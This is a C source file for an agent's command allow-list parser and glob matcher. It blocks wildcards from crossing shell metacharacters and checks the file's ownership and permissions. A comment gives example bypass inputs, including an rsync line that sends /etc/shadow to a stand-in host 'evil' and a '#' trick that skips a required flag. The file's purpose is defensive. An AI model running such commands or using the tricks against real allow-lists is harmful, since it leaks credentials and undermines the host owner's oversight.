/*
 * WORKER_ALLOW_FILE: the host owner's list of the commands this agent may
 * run (SPEC section 12, README "Allow-list"). Read once at start and
 * refused whole when anything about it is doubtful: a wrong allow-list
 * must stop the agent, never let everything through. The matcher is our
 * own, not fnmatch(3), whose `*` would cross a `;` or a newline and let
 * a rule for one command allow two.
 */
#include <sys/stat.h>

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "worker.h"
#include "xmalloc.h"

/*
 * What no wildcard ever matches: a line break, every character with which
 * sh appends a second command or a substitution to an allowed one, and
 * those that change how sh reads the rule's fixed text after the wildcard:
 * a '#' makes it a comment (`deploy * --dry-run` would allow `deploy prod
 * # --dry-run`), a backslash or a quote joins it to the word before
 * (`rsync -a * /backup/` would allow `rsync -a /etc/shadow evil:x\
 * /backup/`, which copies to the host evil).
 */
#define ALLOW_NEVER	"\n\r;&|`$()<>#\\'\""

enum tok_kind {
	TOK_LIT,	/* one byte, exactly */
	TOK_ANY,	/* ? */
	TOK_STAR,	/* * (runs of them are one) */
	TOK_CLASS,	/* [...] */
};

struct tok {
	unsigned char	 kind;
	unsigned char	 ch;		/* TOK_LIT */
	unsigned short	 cls;		/* TOK_CLASS: index in rule->cls */
};

struct rule {
	struct tok	*tok;
	size_t		 ntok;
	unsigned char	(*cls)[32];	/* bitmaps of 256 bytes */
	size_t		 ncls;
	int		 line;
};

struct allow {
	char		*path;
	char		*reason;	/* what a refused command is told */
	struct rule	*rules;
	size_t		 nrules;
};

static int
never(unsigned char c)
{
	return c == '\0' || strchr(ALLOW_NEVER, c) != NULL;
}

/* Say why in buf, and fail: return FAIL(why, whylen, "...", ...); */
#define FAIL(buf, len, ...)	(snprintf((buf), (len), __VA_ARGS__), -1)

static void
rule_clear(struct rule *r)
{
	free(r->tok);
	free(r->cls);
	memset(r, 0, sizeof(*r));
}

static void
rule_add(struct rule *r, size_t *cap, enum tok_kind kind, unsigned char ch)
{
	/* `**` matches what `*` does: one token keeps the matcher linear. */
	if (kind == TOK_STAR && r->ntok > 0 &&
	    r->tok[r->ntok - 1].kind == TOK_STAR)
		return;
	if (r->ntok == *cap) {
		*cap = *cap ? *cap * 2 : 16;
		r->tok = xreallocarray(r->tok, *cap, sizeof(*r->tok));
	}
	r->tok[r->ntok].kind = kind;
	r->tok[r->ntok].ch = ch;
	r->tok[r->ntok].cls = (unsigned short)r->ncls;
	r->ntok++;
}

static void
set_bit(unsigned char *set, unsigned char c)
{
	set[c >> 3] |= (unsigned char)(1u << (c & 7));
}

static int
has_bit(const unsigned char *set, unsigned char c)
{
	return (set[c >> 3] >> (c & 7)) & 1;
}

/* [:name:] inside a class, in the C locale. */
static int
class_named(const char *name, size_t len, unsigned char *set)
{
	static const struct {
		const char	*name;
		const char	*chars;
	} named[] = {
		{ "digit", "0123456789" },
		{ "xdigit", "0123456789abcdefABCDEF" },
		{ "lower", "abcdefghijklmnopqrstuvwxyz" },
		{ "upper", "ABCDEFGHIJKLMNOPQRSTUVWXYZ" },
		{ "alpha", "abcdefghijklmnopqrstuvwxyz"
		    "ABCDEFGHIJKLMNOPQRSTUVWXYZ" },
		{ "alnum", "abcdefghijklmnopqrstuvwxyz"
		    "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789" },
		{ "blank", " \t" },
		{ "space", " \t\n\r\v\f" },
		{ "punct", "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~" },
	};
	const char	*s;
	size_t		 i;

	for (i = 0; i < sizeof(named) / sizeof(named[0]); i++) {
		if (strlen(named[i].name) != len ||
		    strncmp(named[i].name, name, len) != 0)
			continue;
		for (s = named[i].chars; *s != '\0'; s++)
			set_bit(set, (unsigned char)*s);
		return 0;
	}
	return -1;
}

/*
 * A [...] class starting at s[*i] (the '['), as sh reads one: `!` or `^`
 * first negates, a `]` first is a member, `a-z` is a range, `\c` is c.
 * The wildcard exclusions apply to it too: `[!a]` never matches a `;`.
 */
static int
class_parse(struct rule *r, const char *s, size_t len, size_t *i,
    char *why, size_t whylen)
{
	unsigned char	 set[32], lo, hi;
	size_t		 j = *i + 1, end;
	int		 neg = 0, first = 1, c;

	memset(set, 0, sizeof(set));
	if (j < len && (s[j] == '!' || s[j] == '^')) {
		neg = 1;
		j++;
	}
	for (;;) {
		if (j >= len)
			return FAIL(why, whylen, "unterminated [ class");
		if (s[j] == ']' && !first)
			break;
		first = 0;
		if (s[j] == '[' && j + 1 < len && s[j + 1] == ':') {
			for (end = j + 2; end + 1 < len &&
			    !(s[end] == ':' && s[end + 1] == ']'); end++)
				;
			if (end + 1 >= len)
				return FAIL(why, whylen,
				    "unterminated [: :] in a [ class");
			if (class_named(s + j + 2, end - j - 2, set) == -1)
				return FAIL(why, whylen, "unknown class "
				    "[:%.*s:]", (int)(end - j - 2), s + j + 2);
			j = end + 2;
			continue;
		}
		if (s[j] == '\\') {
			if (++j >= len)
				return FAIL(why, whylen,
				    "unterminated [ class");
		}
		lo = (unsigned char)s[j++];
		hi = lo;
		if (j + 1 < len && s[j] == '-' && s[j + 1] != ']') {
			j++;
			if (s[j] == '\\' && ++j >= len)
				return FAIL(why, whylen,
				    "unterminated [ class");
			hi = (unsigned char)s[j++];
			if (hi < lo)
				return FAIL(why, whylen, "the range %c-%c "
				    "in a [ class is reversed", lo, hi);
		}
		for (c = lo; c <= hi; c++)
			set_bit(set, (unsigned char)c);
	}
	for (c = 0; c < 256; c++) {
		if (neg)
			set[c >> 3] ^= (unsigned char)(1u << (c & 7));
		if (never((unsigned char)c))
			set[c >> 3] &= (unsigned char)~(1u << (c & 7));
	}
	r->cls = xreallocarray(r->cls, r->ncls + 1, sizeof(*r->cls));
	memcpy(r->cls[r->ncls], set, sizeof(set));
	*i = j + 1;
	return 0;
}

/*
 * One rule, already trimmed and known not to be a comment: quotes and
 * backslashes removed, wildcards turned into tokens. 0, or -1 with why.
 */
static int
rule_parse(const char *s, size_t len, struct rule *r, char *why,
    size_t whylen)
{
	size_t		 i = 0, cap = 0;
	unsigned char	 q;

	while (i < len) {
		switch (s[i]) {
		case '\'':
		case '"':
			/* Inside "...", \" and \\ are " and \; else literal. */
			q = (unsigned char)s[i++];
			for (;;) {
				if (i >= len)
					return FAIL(why, whylen,
					    "unterminated %c quote", q);
				if ((unsigned char)s[i] == q)
					break;
				if (q == '"' && s[i] == '\\' && i + 1 < len &&
				    (s[i + 1] == '"' || s[i + 1] == '\\'))
					i++;
				rule_add(r, &cap, TOK_LIT, (unsigned char)s[i++]);
			}
			i++;
			break;
		case '\\':
			if (i + 1 >= len)
				return FAIL(why, whylen,
				    "a trailing backslash escapes nothing");
			rule_add(r, &cap, TOK_LIT, (unsigned char)s[i + 1]);
			i += 2;
			break;
		case '*':
			rule_add(r, &cap, TOK_STAR, 0);
			i++;
			break;
		case '?':
			rule_add(r, &cap, TOK_ANY, 0);
			i++;
			break;
		case '[':
			if (r->ncls >= ALLOW_LINE_MAX)
				return FAIL(why, whylen, "too many classes");
			rule_add(r, &cap, TOK_CLASS, 0);
			if (class_parse(r, s, len, &i, why, whylen) == -1)
				return -1;
			r->ncls++;
			break;
		default:
			rule_add(r, &cap, TOK_LIT, (unsigned char)s[i++]);
			break;
		}
	}
	return 0;
}

static int
tok_match(const struct rule *r, const struct tok *t, unsigned char c)
{
	switch (t->kind) {
	case TOK_LIT:
		return c == t->ch;
	case TOK_ANY:
		return !never(c);
	case TOK_CLASS:
		return has_bit(r->cls[t->cls], c);
	}
	return 0;
}

/*
 * The whole text against one rule. Each `*` takes as little as it can
 * and grows only when what follows it fails; it can never grow over a
 * character of ALLOW_NEVER, and then nothing can match: a later place
 * for what follows would put that character inside the `*` too, and an
 * earlier `*` cannot take it either. So the usual one-backtrack-point
 * glob loop stays exact, and at most O(rule x text).
 */
static int
rule_match(const struct rule *r, const unsigned char *text, size_t len)
{
	size_t	 p = 0, t = 0, star_p = SIZE_MAX, star_t = 0;

	while (t < len) {
		if (p < r->ntok && r->tok[p].kind == TOK_STAR) {
			star_p = p++;
			star_t = t;
			continue;
		}
		if (p < r->ntok && tok_match(r, &r->tok[p], text[t])) {
			p++;
			t++;
			continue;
		}
		if (star_p == SIZE_MAX || never(text[star_t]))
			return 0;
		t = ++star_t;
		p = star_p + 1;
	}
	while (p < r->ntok && r->tok[p].kind == TOK_STAR)
		p++;
	return p == r->ntok;
}

static void
reason_set(struct allow *a, const char *path)
{
	a->path = xstrdup(path);
	xasprintf(&a->reason, "refused by WORKER_ALLOW_FILE (%s): no rule "
	    "matches", path);
}

struct allow *
allow_parse(const char *buf, size_t len, const char *name, char *err,
    size_t errlen)
{
	struct allow	*a = xcalloc(1, sizeof(*a));
	struct rule	 r;
	const char	*line, *nl;
	char		 why[128];
	size_t		 n, i;
	int		 lineno = 0;

	reason_set(a, name);
	for (line = buf; line < buf + len; line = nl + 1) {
		lineno++;
		nl = memchr(line, '\n', (size_t)(buf + len - line));
		if (nl == NULL)
			nl = buf + len;
		n = (size_t)(nl - line);
		if (n > ALLOW_LINE_MAX) {
			snprintf(err, errlen, "%s line %d: longer than %d bytes",
			    name, lineno, ALLOW_LINE_MAX);
			goto fail;
		}
		/* CRLF files: the CR goes with the blanks around a rule. */
		while (n > 0 && (line[n - 1] == ' ' || line[n - 1] == '\t' ||
		    line[n - 1] == '\r'))
			n--;
		while (n > 0 && (*line == ' ' || *line == '\t')) {
			line++;
			n--;
		}
		if (n == 0 || *line == '#')
			continue;
		for (i = 0; i < n; i++) {
			if (line[i] == '\0') {
				snprintf(err, errlen, "%s line %d: a NUL byte",
				    name, lineno);
				goto fail;
			}
			if (((unsigned char)line[i] < 0x20 && line[i] !=
			    '\t') || line[i] == 0x7f) {
				snprintf(err, errlen, "%s line %d: a control "
				    "character (0x%02x)", name, lineno,
				    (unsigned char)line[i]);
				goto fail;
			}
		}
		if (a->nrules == ALLOW_RULES_MAX) {
			snprintf(err, errlen, "%s line %d: more than %d rules",
			    name, lineno, ALLOW_RULES_MAX);
			goto fail;
		}
		memset(&r, 0, sizeof(r));
		r.line = lineno;
		if (rule_parse(line, n, &r, why, sizeof(why)) == -1) {
			rule_clear(&r);
			snprintf(err, errlen, "%s line %d: %s", name, lineno,
			    why);
			goto fail;
		}
		a->rules = xreallocarray(a->rules, a->nrules + 1,
		    sizeof(*a->rules));
		a->rules[a->nrules++] = r;
	}
	return a;
fail:
	allow_free(a);
	return NULL;
}

/*
 * Read and check the file. Whoever can write it decides what runs here as
 * this agent's user, so it must be a regular file that only root or that
 * user owns and only its owner can write.
 */
struct allow *
allow_load(const char *path, uid_t self, char *err, size_t errlen)
{
	struct allow	*a = NULL;
	struct stat	 st;
	char		*buf = NULL;
	size_t		 len = 0;
	ssize_t		 n;
	int		 fd;

	if (path[0] != '/') {
		snprintf(err, errlen, "%s: not an absolute path", path);
		return NULL;
	}
	/* O_NONBLOCK: a FIFO put there must not hang the start. */
	fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
	if (fd == -1) {
		snprintf(err, errlen, "%s: %s", path, strerror(errno));
		return NULL;
	}
	if (fstat(fd, &st) == -1) {
		snprintf(err, errlen, "%s: %s", path, strerror(errno));
		goto fail;
	}
	if (!S_ISREG(st.st_mode)) {
		snprintf(err, errlen, "%s: not a regular file", path);
		goto fail;
	}
	if (st.st_mode & (S_IWGRP | S_IWOTH)) {
		snprintf(err, errlen, "%s: writable by its group or by others "
		    "(mode %04o)", path, (unsigned)(st.st_mode & 07777));
		goto fail;
	}
	if (st.st_uid != 0 && st.st_uid != self) {
		snprintf(err, errlen, "%s: owned by uid %u, neither root nor "
		    "this agent's user (uid %u)", path, (unsigned)st.st_uid,
		    (unsigned)self);
		goto fail;
	}
	buf = xmalloc(ALLOW_FILE_MAX + 1);
	for (;;) {
		n = read(fd, buf + len, ALLOW_FILE_MAX + 1 - len);
		if (n == -1 && errno == EINTR)
			continue;
		if (n == -1) {
			snprintf(err, errlen, "%s: %s", path, strerror(errno));
			goto fail;
		}
		if (n == 0)
			break;
		len += (size_t)n;
		if (len > ALLOW_FILE_MAX) {
			snprintf(err, errlen, "%s: larger than %d bytes", path,
			    ALLOW_FILE_MAX);
			goto fail;
		}
	}
	a = allow_parse(buf, len, path, err, errlen);
fail:
	free(buf);
	close(fd);
	return a;
}

void
allow_free(struct allow *a)
{
	size_t	 i;

	if (a == NULL)
		return;
	for (i = 0; i < a->nrules; i++)
		rule_clear(&a->rules[i]);
	free(a->rules);
	free(a->path);
	free(a->reason);
	free(a);
}

size_t
allow_rules(const struct allow *a)
{
	return a->nrules;
}

const char *
allow_path(const struct allow *a)
{
	return a->path;
}

const char *
allow_reason(const struct allow *a)
{
	return a->reason;
}

/*
 * 0 if the whole command matches no rule, else the line number of the
 * first rule it matches. A command with a line break never matches: a
 * rule is one line, and sh would run the next line as its own command.
 */
int
allow_match(const struct allow *a, const char *command)
{
	size_t	 i, len = strlen(command);

	if (strpbrk(command, "\r\n") != NULL)
		return 0;
	for (i = 0; i < a->nrules; i++)
		if (rule_match(&a->rules[i], (const unsigned char *)command,
		    len))
			return a->rules[i].line;
	return 0;
}
